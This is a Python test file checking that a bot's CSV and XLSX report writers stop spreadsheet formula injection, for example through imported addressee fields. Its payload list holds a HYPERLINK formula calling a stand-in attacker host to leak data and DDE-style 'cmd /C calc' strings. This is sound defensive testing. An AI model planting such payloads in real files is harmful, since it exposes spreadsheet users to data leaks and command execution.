"""Formula injection: no text the bot writes to a CSV or XLSX file can run as a formula.

An addressee typed or imported as =HYPERLINK("http://…") reached the report rows as a live
formula. Each file is read back as a spreadsheet program would see it: in the CSV every
formula-like text cell starts with the single quote that makes it text, and in the XLSX no
cell is a formula; the text itself is unchanged and readable.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from storage.tinydb_repo import TinyDBRepository
from workflows.checklists.model import Registry
from workflows.records.spreadsheet_import import import_file
from workflows.report import compile_report
from workflows.report.csv_writer import write_csv
from workflows.report.sheets import csv_cell, write_csv_table, write_xlsx_table

TODAY = date(2018, 2, 1)
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
]
HARMLESS = ["Burundi", "Société Minière Acmé", "AL BDI 1/2017", "it's fine", "", "1+1"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_formula_like_text_gets_a_leading_quote(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [*HARMLESS, 3, -5, 12.5])
def test_other_values_are_left_as_they_are(value: str | int | float) -> None:
    assert csv_cell(value) == value


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_csv_reads_back_as_text() -> None:
    stream = io.BytesIO()
    write_csv_table(("Name", "Count"), [(p, -1) for p in [*PAYLOADS, *HARMLESS]], stream)
    rows = read_csv(stream.getvalue())
    assert rows[0] == ["Name", "Count"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS] + HARMLESS
    assert {r[1] for r in rows[1:]} == {"-1"}  # a number stays a number


def test_the_xlsx_holds_no_formula_and_the_text_as_typed() -> None:
    stream = io.BytesIO()
    rows = [(p, -1) for p in [*PAYLOADS, *HARMLESS]]
    write_xlsx_table("Overdue", ("Name", "Count"), rows, stream)
    with zipfile.ZipFile(io.BytesIO(stream.getvalue())) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(stream.getvalue())).active
    assert sheet is not None and sheet.title == "Overdue"
    cells = list(sheet.iter_rows(min_row=2, values_only=False))
    assert all(c.data_type != "f" for row in cells for c in row)
    texts = [row[0].value for row in cells]
    assert texts == [*PAYLOADS, *(h or None for h in HARMLESS)]  # as typed; "" is an empty cell
    assert all(row[0].quotePrefix for row in cells[: len(PAYLOADS)])
    assert [row[1].value for row in cells] == [-1] * len(rows)


def test_an_imported_addressee_cannot_become_a_formula_in_the_report_csv(
    tmp_path: Path, repo: TinyDBRepository, registry: Registry
) -> None:
    repo.put_user({"id": "101", "role": "officer"}, actor="test")
    source = tmp_path / "records.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["kind", "owner", "comm_type", "addressees", "date_sent", "mandates",
                         "reference", "summary", "themes"])  # fmt: skip
        writer.writerow(["communication", "101", "AL", f"other: {PAYLOADS[0]}", "15/03/2017",
                         "WGAD", "AL OTH 1/2017", "=1+1", "detention"])  # fmt: skip
    now = datetime(2018, 2, 1, 9, tzinfo=UTC)
    result = import_file(source, repo, registry, actor="test", today=TODAY, now=now,
                         tz="Europe/Zurich")  # fmt: skip
    assert not result.problems and len(result.imported) == 1
    report = compile_report(repo.iter_cases(), date(2017, 1, 1), date(2017, 12, 31),
                            today=TODAY, registry=registry)  # fmt: skip
    stream = io.BytesIO()
    write_csv(report, stream)
    header, *rows = read_csv(stream.getvalue())
    (row,) = rows
    assert row[header.index("Addressees")] == "'" + PAYLOADS[0]
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell
